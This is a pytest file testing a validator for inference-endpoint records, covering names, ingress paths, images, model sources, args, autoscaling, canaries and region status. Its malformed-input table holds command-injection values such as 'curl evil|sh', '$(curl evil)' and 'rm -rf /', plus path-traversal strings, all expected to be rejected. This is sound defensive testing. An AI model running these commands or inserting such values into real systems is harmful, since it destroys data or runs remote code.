"""parse/validate of table items: pure, no mocks."""

from __future__ import annotations

import copy
from decimal import Decimal

import pytest
from hypothesis import given, settings, strategies as st

from gco_infra.endpoint import (
    Canary, endpoint_to_item, image_repository, parse_endpoint, parse_quantity, validate_all,
)


def good(**over):
    item = {
        "endpoint_name": "llama3",
        "desired_state": "running",
        "target_regions": ["us-east-1", "eu-west-1"],
        "namespace": "gco-inference",
        "ingress_path": "/inference/llama3",
        "spec": {"image": "vllm/vllm-openai:v0.6.0", "replicas": Decimal("2"), "port": "8080",
                 "gpu_count": Decimal(1), "env": {"MAX_LEN": Decimal(4096)}},
        "created_at": "2026-01-01T00:00:00Z",
    }
    item.update(over)
    return item


def with_spec(**over):
    item = good()
    item["spec"] = {**item["spec"], **over}
    return item


def test_valid_record_with_decimals_and_numeric_strings():
    r = parse_endpoint(good())
    assert r.ok, r.errors
    ep = r.endpoint
    assert (ep.spec.replicas, ep.spec.port, ep.spec.gpu_count) == (2, 8080, 1)
    assert ep.spec.env == {"MAX_LEN": "4096"}
    assert ep.spec.resources.requests == {"cpu": "1", "memory": "4Gi"}
    assert ep.spec.resources.limits == {"cpu": "4", "memory": "16Gi"}
    assert ep.target_regions == ("us-east-1", "eu-west-1")


def test_defaults_for_missing_optional_fields():
    r = parse_endpoint({"endpoint_name": "tiny", "desired_state": "deploying", "target_regions": ["x-1"],
                        "spec": {"image": "repo/img:1"}})
    assert r.ok, r.errors
    s = r.endpoint.spec
    assert (s.replicas, s.port, s.gpu_count, s.accelerator, s.health_check_path) == (1, 8000, 1, "nvidia", "/health")
    assert r.endpoint.namespace == "gco-inference"
    assert r.endpoint.ingress_path == "/inference/tiny"
    assert s.canary is None and not s.autoscaling.enabled


def test_replicas_zero_is_kept_not_replaced_by_one():
    assert parse_endpoint(with_spec(replicas=0)).endpoint.spec.replicas == 0


def test_error_message_names_endpoint_and_field():
    r = parse_endpoint(with_spec(replicas=-2))
    assert r.errors == ('endpoint "llama3": spec.replicas must be >= 0, got -2',)


MALFORMED = {
    "record not a map": (["a"], "record must be a map"),
    "missing name": ({k: v for k, v in good().items() if k != "endpoint_name"}, "endpoint_name is required"),
    "name uppercase": (good(endpoint_name="Llama3"), "endpoint_name must be a DNS-1035 label"),
    "name starts with digit": (good(endpoint_name="3llama"), "DNS-1035"),
    "name too long": (good(endpoint_name="a" * 51), "at most 50 characters"),
    "name with shell": (good(endpoint_name="x;rm -rf /"), "DNS-1035"),
    "name not string": (good(endpoint_name=Decimal(3)), "endpoint_name is required"),
    "bad desired_state": (good(desired_state="exploded"), "desired_state must be one of"),
    "missing desired_state": (good(desired_state=None), "desired_state is required"),
    "target_regions string": (good(target_regions="us-east-1"), "target_regions must be a list"),
    "target region bad": (good(target_regions=["US EAST"]), "target_regions[0] must be a region name"),
    "missing target_regions": ({k: v for k, v in good().items() if k != "target_regions"}, "target_regions is required"),
    "foreign namespace": (good(namespace="kube-system"), "allowed namespaces"),
    "namespace bad label": (good(namespace="../etc"), "namespace must be a DNS-1123 label"),
    "stolen ingress path": (good(ingress_path="/inference/other"), "ingress_path must be /inference/llama3"),
    "ingress path root": (good(ingress_path="/"), "ingress_path must be"),
    "ingress path dotdot": (good(ingress_path="/inference/llama3/../other"), "ingress_path must be"),
    "ingress path prefix trick": (good(ingress_path="/inference/llama3x"), "ingress_path must be"),
    "spec missing": (good(spec=None), "spec is required"),
    "spec not a map": (good(spec="image: x"), "spec must be a map"),
    "missing image": (with_spec(image=None), "spec.image is required"),
    "image with shell": (with_spec(image="img:1; curl evil|sh"), "spec.image must be a container image"),
    "image wrong type": (with_spec(image=Decimal(5)), "spec.image must be a string"),
    "replicas negative": (with_spec(replicas=Decimal(-2)), "spec.replicas must be >= 0, got -2"),
    "replicas huge": (with_spec(replicas=Decimal("1e12")), "spec.replicas must be <= 1000"),
    "replicas fractional": (with_spec(replicas=Decimal("1.5")), "spec.replicas must be an integer"),
    "replicas word": (with_spec(replicas="three"), "spec.replicas must be an integer"),
    "replicas bool": (with_spec(replicas=True), "spec.replicas must be an integer"),
    "replicas NaN": (with_spec(replicas=Decimal("NaN")), "spec.replicas must be an integer"),
    "port zero": (with_spec(port=0), "spec.port must be >= 1"),
    "port too large": (with_spec(port=70000), "spec.port must be <= 65535"),
    "gpu too many": (with_spec(gpu_count=64), "spec.gpu_count must be <= 16"),
    "accelerator unknown": (with_spec(accelerator="tpu"), "spec.accelerator must be one of nvidia, neuron"),
    "capacity type unknown": (with_spec(capacity_type="cheap"), "spec.capacity_type must be one of"),
    "health path relative": (with_spec(health_check_path="health"), "spec.health_check_path must be an absolute"),
    "env bad name": (with_spec(env={"BAD NAME;ls": "x"}), "spec.env has an invalid variable name"),
    "env not map": (with_spec(env=["A=1"]), "spec.env must be a map"),
    "env value map": (with_spec(env={"A": {"x": 1}}), "spec.env.A must be a string"),
    "env value huge": (with_spec(env={"A": "x" * 40000}), "spec.env.A must be at most"),
    "resources bad quantity": (with_spec(resources={"requests": {"cpu": "lots"}}), "spec.resources.requests.cpu must be a Kubernetes quantity"),
    "resources gpu key": (with_spec(resources={"limits": {"nvidia.com/gpu": "8"}}), "GPUs come from spec.gpu_count"),
    "requests above limits": (with_spec(resources={"requests": {"memory": "32Gi"}}), "must not exceed limits.memory"),
    "model_source not s3": (with_spec(model_source="https://evil/x"), "spec.model_source must be an s3://"),
    "model_source command substitution": (with_spec(model_source="s3://bucket/$(curl evil)"), "spec.model_source must be an s3://"),
    "model_source semicolon": (with_spec(model_source="s3://bucket/x; rm -rf /"), "spec.model_source must be an s3://"),
    "model_source backtick": (with_spec(model_source="s3://bucket/`id`"), "spec.model_source"),
    "model_source newline": (with_spec(model_source="s3://bucket/a\nrm"), "spec.model_source must not contain control"),
    "model_path relative": (with_spec(model_path="models"), "spec.model_path must be an absolute path"),
    "model_path traversal": (with_spec(model_path="/models/../etc"), "spec.model_path must not be / or contain '..'"),
    "args as shell string": (with_spec(args="--port 8000; rm -rf /"), "spec.args must be a list of strings"),
    "command as shell string": (with_spec(command="sh -c 'curl evil|sh'"), "spec.command must be a list"),
    "args NUL byte": (with_spec(args=["--x\x00y"]), "spec.args[0] must not contain control"),
    "args item map": (with_spec(args=[{"a": 1}]), "spec.args[0] must be a string"),
    "args too many": (with_spec(args=["x"] * 500), "spec.args must have at most"),
    "node_selector bad key": (with_spec(node_selector={"bad key!": "x"}), "spec.node_selector has an invalid label key"),
    "node_selector bad value": (with_spec(node_selector={"zone": "a b"}), "spec.node_selector.zone is not a valid label value"),
    "autoscaling min > max": (with_spec(autoscaling={"enabled": True, "min_replicas": 5, "max_replicas": 2}), "min_replicas must be <= max_replicas (2), got 5"),
    "autoscaling metric unknown": (with_spec(autoscaling={"enabled": True, "metrics": [{"type": "tpu", "target": 50}]}), "metrics[0].type must be one of cpu, memory, gpu"),
    "autoscaling enabled word": (with_spec(autoscaling={"enabled": "yes"}), "spec.autoscaling.enabled must be true or false"),
    "canary no image": (with_spec(canary={"weight": 10}), "spec.canary.image is required"),
    "canary weight 0": (with_spec(canary={"image": "a/b:2", "weight": 0}), "spec.canary.weight must be >= 1"),
    "canary weight 100": (with_spec(canary={"image": "a/b:2", "weight": 100}), "spec.canary.weight must be <= 99"),
    "canary no weight": (with_spec(canary={"image": "a/b:2"}), "spec.canary.weight is required"),
    "region image bad": (with_spec(region_image_uris={"us-east-1": "bad image"}), "spec.region_image_uris.us-east-1 must be a container image"),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_malformed_record_is_rejected_with_precise_error(case):
    item, expected = MALFORMED[case]
    r = parse_endpoint(item)
    assert not r.ok and r.endpoint is None
    assert any(expected in e for e in r.errors), r.errors
    name = item.get("endpoint_name") if isinstance(item, dict) else None
    shown = name if isinstance(name, str) and name else "<unnamed>"
    assert all(e.startswith(f'endpoint "{shown}": ') for e in r.errors), r.errors


def test_at_least_thirty_malformed_cases():
    assert len(MALFORMED) >= 30


def test_all_errors_reported_at_once():
    r = parse_endpoint(with_spec(replicas=-1, port=0, image=None))
    assert len(r.errors) == 3


def test_stolen_ingress_path_never_validates():
    # Only the owner's prefix is accepted, so no other endpoint can claim /inference/llama3.
    thief = good(endpoint_name="thief", ingress_path="/inference/llama3")
    v = validate_all([good(), thief])
    assert set(v.endpoints) == {"llama3"}
    assert "ingress_path must be /inference/thief" in v.invalid["thief"][0]


def test_duplicate_names_are_all_invalid():
    v = validate_all([good(), good()])
    assert "llama3" not in v.endpoints
    assert "appears more than once" in v.invalid["llama3"][-1]


def test_namespace_allowed_by_stack():
    assert parse_endpoint(good(namespace="team-b"), allowed_namespaces=("gco-inference", "team-b")).ok


def test_sub_path_below_own_prefix_is_allowed():
    assert parse_endpoint(good(ingress_path="/inference/llama3/v1")).ok


def test_string_set_regions_from_dynamodb():
    assert parse_endpoint(good(target_regions={"b-1", "a-1"})).endpoint.target_regions == ("a-1", "b-1")


def test_region_status_is_read_leniently():
    item = good(region_status={"us-east-1": {"state": "running", "ingress": "withdrawn", "replicas_ready": Decimal(0)},
                               "junk": "not a map"})
    ep = parse_endpoint(item).endpoint
    assert ep.status_in("us-east-1").ingress_withdrawn
    assert ep.status_in("us-east-1").replicas_ready == 0
    assert ep.status_in("nowhere").state is None


def test_canary_parsed():
    ep = parse_endpoint(with_spec(canary={"image": "a/b:2", "weight": "25"})).endpoint
    assert ep.spec.canary == Canary(image="a/b:2", weight=25, replicas=1)


@pytest.mark.parametrize("text,value", [("500m", Decimal("0.5")), ("2", 2), ("4Gi", 4 * 2**30), ("1e3", 1000), ("1.5G", 1_500_000_000)])
def test_parse_quantity(text, value):
    assert parse_quantity(text) == value


@pytest.mark.parametrize("image,repo", [
    ("vllm/vllm-openai:v0.6.0", "vllm/vllm-openai"),
    ("registry:5000/org/tgi@sha256:" + "a" * 64, "registry:5000/org/tgi"),
    ("plain", "plain"),
])
def test_image_repository(image, repo):
    assert image_repository(image) == repo


def test_root_path_detection():
    assert parse_endpoint(with_spec(image="ghcr.io/huggingface/text-generation-inference:2.0")).endpoint.spec.serves_root_path
    assert not parse_endpoint(with_spec(image="org/my-server:vllm")).endpoint.spec.serves_root_path


# ---- properties ---------------------------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers(-10**15, 10**15) | st.text(max_size=30)
    | st.decimals(allow_nan=True, allow_infinity=True),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4),
    max_leaves=20,
)
spec_keys = st.sampled_from(["image", "replicas", "port", "gpu_count", "accelerator", "env", "resources", "args",
                             "command", "model_source", "model_path", "autoscaling", "canary", "node_selector"])


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(spec_keys, json_values, max_size=8), json_values)
def test_parse_never_raises_and_errors_name_the_endpoint(spec, state):
    item = good(desired_state=state)
    item["spec"] = spec
    r = parse_endpoint(item)
    assert r.ok or r.errors
    assert all(e.startswith('endpoint "llama3": ') for e in r.errors)


@settings(max_examples=100, deadline=None)
@given(replicas=st.integers(0, 1000), gpus=st.integers(0, 16), port=st.integers(1, 65535),
       weight=st.one_of(st.none(), st.integers(1, 99)),
       env=st.dictionaries(st.from_regex(r"[A-Z_][A-Z0-9_]{0,8}", fullmatch=True), st.text(max_size=20).filter(lambda s: "\x00" not in s), max_size=3))
def test_valid_records_round_trip_through_item(replicas, gpus, port, weight, env):
    spec = {"image": "a/b:1", "replicas": replicas, "gpu_count": gpus, "port": port, "env": env}
    if weight:
        spec["canary"] = {"image": "a/b:2", "weight": weight}
    ep = parse_endpoint(good(spec=spec)).endpoint
    assert ep is not None
    again = parse_endpoint(copy.deepcopy(endpoint_to_item(ep))).endpoint
    assert again == ep


# ---- model directory ----------------------------------------------------------------------------


def test_model_source_without_path_syncs_into_the_endpoints_own_directory():
    ep = parse_endpoint(with_spec(model_source="s3://bucket/llama3/")).endpoint
    assert ep.spec.model_path == "/models/llama3"  # never the shared volume's root
    assert parse_endpoint(endpoint_to_item(ep)).endpoint == ep
    explicit = parse_endpoint(with_spec(model_source="s3://bucket/llama3/", model_path="/opt/model")).endpoint
    assert explicit.spec.model_path == "/opt/model"


# ---- autoscaling on GPU utilisation -------------------------------------------------------------


def test_gpu_metric_is_accepted():
    ep = parse_endpoint(with_spec(autoscaling={"enabled": True, "metrics": [{"type": "gpu", "target": "60"},
                                                                            {"type": "cpu"}]})).endpoint
    assert [(m.type, m.target) for m in ep.spec.autoscaling.metrics] == [("gpu", 60), ("cpu", 70)]
    assert parse_endpoint(copy.deepcopy(endpoint_to_item(ep))).endpoint == ep


# ---- names ending in -canary --------------------------------------------------------------------


def canary_of(base, **over):
    return good(endpoint_name=f"{base}-canary", ingress_path=None, **over)


def test_name_ending_in_canary_is_allowed_on_its_own():
    r = parse_endpoint(canary_of("foo"))
    assert r.ok, r.errors
    v = validate_all([canary_of("foo"), good(endpoint_name="foo", ingress_path=None)])  # foo has no canary
    assert set(v.endpoints) == {"foo", "foo-canary"} and not v.invalid


def test_name_colliding_with_another_endpoints_canary_objects_is_invalid():
    base = good(endpoint_name="foo", ingress_path=None)
    base["spec"] = {**base["spec"], "canary": {"image": "a/b:2", "weight": 10}}
    v = validate_all([canary_of("foo"), base])
    # both are reported (as two claims of one path are): whichever was applied first keeps its last
    # declaration, and nothing that runs changes hands between them
    assert set(v.endpoints) == set() and set(v.invalid) == {"foo", "foo-canary"}
    (error,) = v.invalid["foo-canary"]
    assert error.startswith('endpoint "foo-canary": endpoint_name ')
    assert 'endpoint "foo"' in error and "foo-canary" in error and "inference-foo-canary" in error
    (error,) = v.invalid["foo"]
    assert error.startswith('endpoint "foo": spec.canary ') and 'endpoint "foo-canary"' in error


def test_canary_collision_ignores_deleted_and_invalid_owners_and_deleted_claimants():
    base = good(endpoint_name="foo", ingress_path=None)
    base["spec"] = {**base["spec"], "canary": {"image": "a/b:2", "weight": 10}}
    assert "foo-canary" in validate_all([canary_of("foo"), {**base, "desired_state": "deleted"}]).endpoints
    broken = {**base, "spec": {**base["spec"], "replicas": -1}}
    assert "foo-canary" in validate_all([canary_of("foo"), broken]).endpoints
    # a deleted -canary endpoint declares nothing, so it must stay valid to be removed
    assert "foo-canary" in validate_all([canary_of("foo", desired_state="deleted"), base]).endpoints


# ---- region_status written by other tools -------------------------------------------------------

R = "us-east-1"
MALFORMED_REGION_STATUS = {
    "not a map": ("running", {}),
    "list": ([{"state": "running"}], {}),
    "number": (Decimal(7), {}),
    "entry not a map": ({R: "running"}, {}),
    "entry list": ({R: ["running"]}, {}),
    "region key not a string": ({Decimal(1): {"state": "running"}}, {}),
    "unknown state": ({R: {"state": "exploded"}}, {"state": None}),
    "state not a string": ({R: {"state": {"x": 1}}}, {"state": None}),
    "replicas word": ({R: {"replicas_ready": "three"}}, {"replicas_ready": None}),
    "replicas infinite": ({R: {"replicas_ready": Decimal("Infinity")}}, {"replicas_ready": None}),
    "replicas NaN": ({R: {"replicas_desired": Decimal("NaN")}}, {"replicas_desired": None}),
    "replicas float infinity": ({R: {"replicas_ready": float("inf")}}, {"replicas_ready": None}),
    "replicas astronomically large": ({R: {"replicas_ready": Decimal("1e400000")}}, {"replicas_ready": None}),
    "replicas fractional": ({R: {"replicas_ready": Decimal("1.5")}}, {"replicas_ready": None}),
    "replicas negative": ({R: {"replicas_ready": -3}}, {"replicas_ready": None}),
    "replicas bool": ({R: {"replicas_ready": True}}, {"replicas_ready": None}),
    "replicas nested": ({R: {"replicas_ready": {"a": [1]}}}, {"replicas_ready": None}),
    "huge error": ({R: {"state": "error", "error": "x" * 100_000}}, {"state": "error", "error": None}),
    "huge ingress flag": ({R: {"ingress": "withdrawn" + "x" * 5000}}, {"ingress": None}),
    "ingress not a string": ({R: {"ingress": ["withdrawn"]}}, {"ingress": None}),
    "nested garbage": ({R: {"state": "running", "message": {"a": {"b": [Decimal("NaN")]}}, "x": [[[]]]}},
                       {"state": "running", "message": None}),
}


@pytest.mark.parametrize("case", sorted(MALFORMED_REGION_STATUS))
def test_malformed_region_status_never_fails_the_record(case):
    value, expected = MALFORMED_REGION_STATUS[case]
    r = parse_endpoint(good(region_status=value))
    assert r.ok, r.errors
    status = r.endpoint.status_in(R)
    for key, want in expected.items():
        assert getattr(status, key) == want, (key, getattr(status, key))
    assert set(validate_all([good(region_status=value)]).endpoints) == {"llama3"}


@pytest.mark.parametrize("case", sorted(MALFORMED_REGION_STATUS))
def test_malformed_region_status_is_described(case):
    from gco_infra.endpoint import region_status_problem

    value, _ = MALFORMED_REGION_STATUS[case]
    problem = region_status_problem(good(region_status=value))
    assert problem and problem.startswith('endpoint "llama3": region_status'), problem
    assert len(problem) < 2000


def test_region_status_problem_names_the_endpoint_field_and_type():
    from gco_infra.endpoint import region_status_problem

    assert region_status_problem(good(region_status="junk")) == 'endpoint "llama3": region_status must be a map, got str'
    assert region_status_problem(good(region_status={R: ["x"]})) == f'endpoint "llama3": region_status.{R} must be a map, got list'
    assert "region_status.us-east-1.state must be one of pending" in region_status_problem(good(region_status={R: {"state": "boom"}}))
    assert region_status_problem(good()) is None
    assert region_status_problem(good(region_status={R: {"state": "running", "replicas_ready": Decimal(2),
                                                         "last_sync": "2026-01-01T00:00:00Z", "other_tool": {"x": 1}}})) is None
    assert region_status_problem(["not", "an", "item"]) is None  # the record's own error, reported by parse


def test_stored_region_status_returns_the_raw_map_only():
    from gco_infra.endpoint import stored_region_status

    raw = {"state": "running", "replicas_ready": Decimal(1), "other_tool": {"x": [1]}}
    assert stored_region_status(good(region_status={R: raw}), R) == raw
    assert stored_region_status(good(region_status={R: raw}), "eu-west-1") is None
    assert stored_region_status(good(), R) is None
    assert stored_region_status(good(region_status="junk"), R) is None
    assert stored_region_status(good(region_status={R: "running"}), R) is None
    assert stored_region_status("not an item", R) is None


region_keys = st.sampled_from(["state", "replicas_ready", "replicas_desired", "last_sync", "error", "ingress",
                               "unready_since", "message"]) | st.text(max_size=8)
region_values = json_values | st.sampled_from(["running", "withdrawn", "x" * 5000]) \
    | st.floats(allow_nan=True, allow_infinity=True) | st.decimals(allow_nan=True, allow_infinity=True)
region_status_values = json_values | st.dictionaries(
    st.sampled_from([R, "eu-west-1"]) | st.text(max_size=8) | st.integers(),
    json_values | st.dictionaries(region_keys, region_values, max_size=6), max_size=3)


@settings(max_examples=300, deadline=None)
@given(region_status_values)
def test_arbitrary_region_status_never_raises(value):
    item = good(region_status=value)
    r = parse_endpoint(item)
    assert r.ok, r.errors
    s = r.endpoint.status_in(R)
    assert s.state is None or s.state in ("pending", "creating", "running", "updating", "stopping", "stopped",
                                          "deleting", "deleted", "error")
    assert all(v is None or (isinstance(v, int) and v >= 0) for v in (s.replicas_ready, s.replicas_desired))
    assert all(v is None or len(v) <= 4096 for v in (s.last_sync, s.error, s.ingress, s.unready_since, s.message))
    assert set(validate_all([item]).endpoints) == {"llama3"}


@settings(max_examples=200, deadline=None)
@given(region_status_values)
def test_region_status_helpers_never_raise(value):
    from gco_infra.endpoint import region_status_problem, stored_region_status

    item = good(region_status=value)
    problem = region_status_problem(item)
    assert problem is None or problem.startswith('endpoint "llama3": ')
    stored = stored_region_status(item, R)
    assert stored is None or isinstance(stored, dict)
